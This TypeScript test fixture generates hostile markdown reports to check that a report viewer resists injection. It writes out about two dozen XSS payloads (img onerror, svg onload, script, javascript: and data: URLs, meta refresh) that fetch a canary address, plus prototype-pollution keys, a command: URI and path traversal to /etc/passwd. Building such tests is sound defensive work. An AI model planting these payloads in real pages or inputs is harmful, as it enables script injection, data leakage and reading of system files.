import type { HostileReport } from "./hostile-reports.js";

/*
 * Reports that attack the report view: each puts markup, addresses or names into a part of a report that the view draws.
 * `at` is an address that must never be asked.
 */

/** The parts of a report that a kind may change. */
interface Parts {
  title: string;
  date: string;
  engine: string;
  depth: string;
  session: string;
  question: string;
  body: string;
  link: string;
  snapshot: string;
  quote: string;
}

const KINDS: Record<string, (at: string) => Partial<Parts>> = {
  "view-title-img": (at) => ({ title: JSON.stringify(`<img src=${at} onerror=fetch("${at}")>`) }),
  "view-title-script": (at) => ({ title: JSON.stringify(`</title></script><script src="${at}"></script>`) }),
  "view-engine-name": () => ({ engine: "__proto__" }),
  "view-engine-markup": (at) => ({ engine: JSON.stringify(`<iframe src="${at}">`) }),
  "view-depth-name": () => ({ depth: "constructor" }),
  "view-date-markup": (at) => ({ date: JSON.stringify(`<object data="${at}">`) }),
  "view-session-path": () => ({ session: "20261122-101500-../../../../etc/passwd" }),
  "view-question-svg": (at) => ({ question: `<svg onload="fetch('${at}')"><image href="${at}"/></svg>` }),
  "view-question-style": (at) => ({ question: `<style>@import "${at}";*{background:url(${at})}</style>` }),
  "view-heading-link": (at) => ({ body: `## <link rel=stylesheet href="${at}"> [x](javascript:fetch('${at}'))` }),
  "view-code-language": (at) => ({
    body: `\`\`\`x"onload="fetch('${at}')\n<img src="${at}">\n\`\`\`\n\n[[1.1]](#source-1)`,
  }),
  "view-code-script": (at) => ({
    body: `\`\`\`js\n</code></pre><script>fetch("${at}")</script>\n\`\`\`\n\n[[1.1]](#source-1)`,
  }),
  "view-quote-block": (at) => ({ body: `> <video autoplay src="${at}" poster="${at}">\n\n[[1.1]](#source-1)` }),
  "view-table-cells": (at) => ({
    body: `| <img src="${at}"> | b |\n|---|---|\n| <body onload=fetch("${at}")> | <a href="${at}" ping="${at}">x</a> [[1.1]](#source-1) |`,
  }),
  "view-mark-reason": (at) => ({
    body: `It is so. [[1.1]](#source-1) *(qualified: <img src=${at} onerror=alert(1)>)*`,
  }),
  "view-citation-title": (at) => ({ body: `It is so. [[1.1]](#source-1"onmouseover="fetch('${at}')) [[9.9]](#source-9)` }),
  "view-image-markdown": (at) => ({ body: `![a](${at}) [![b](${at})](${at}) [c]: ${at}` }),
  "view-source-script": (at) => ({ link: `[<script src="${at}"></script>](javascript:fetch('${at}'))` }),
  "view-source-command": (at) => ({ link: `[A page](command:workbench.action.terminal.new?${encodeURIComponent(at)})` }),
  "view-source-data": (at) => ({ link: `[A page](data:text/html,<script>fetch("${at}")</script>)` }),
  "view-source-share": () => ({ link: `[A file](//canary.test/view-source-share/file.md#L1)` }),
  "view-source-outside": () => ({ link: `[A file](../../../../../../etc/passwd#L1)` }),
  "view-snapshot-outside": () => ({ snapshot: `../../../../../../etc/${"a".repeat(16)}.md` }),
  "view-quote-markup": (at) => ({ quote: `</mark><img src="${at}"><form action="${at}"><input autofocus onfocus=fetch("${at}")>` }),
  "view-quote-refresh": (at) => ({ quote: `<meta http-equiv="refresh" content="0;url=${at}"><base href="${at}">` }),
  "view-hidden-text": (at) => ({ body: `Read \u202e${at}\u202c and \u2066${at}\u2069. [[1.1]](#source-1)` }),
}; // prettier-ignore

/** @param bases addresses that answer if they are asked; each kind asks below them, by its name */
export function hostileViewReports(bases: string[]): HostileReport[] {
  return Object.entries(KINDS).map(([kind, change]) => {
    const [base = ""] = bases;
    const parts: Parts = {
      title: "A title",
      date: "2026-11-22",
      engine: "offline",
      depth: "standard",
      session: "20261122-101500-a-question-7f3a",
      question: "What is it?",
      body: "It is so. [[1.1]](#source-1)",
      link: "[A file](../docs/a.md#L1)",
      snapshot: `../sessions/20261122-101500-a-question-7f3a/sources/${"a".repeat(16)}.md`,
      quote: "It is so.",
      ...change(`${base}/${kind}`),
    };
    const end = `Here ends ${kind}, and all of it can be read.`;
    const markdown = [
      `---\ntitle: ${parts.title}\ndate: ${parts.date}\nengine: ${parts.engine}\ndepth: ${parts.depth}\nsession: ${parts.session}\n---`,
      "# A title",
      `> **Question.** ${parts.question}`,
      "A sentence that stands before. [[1.1]](#source-1)",
      parts.body,
      "## The end",
      end,
      "## Sources",
      "### Source 1",
      `${parts.link}, read on 2026-11-22.\n[Snapshot](${parts.snapshot}), SHA-256 \`${"a".repeat(64)}\`.`,
      `1. "${parts.quote}"`,
    ].join("\n\n");
    return { name: kind, kinds: [kind], markdown: `${markdown}\n`, end };
  });
}
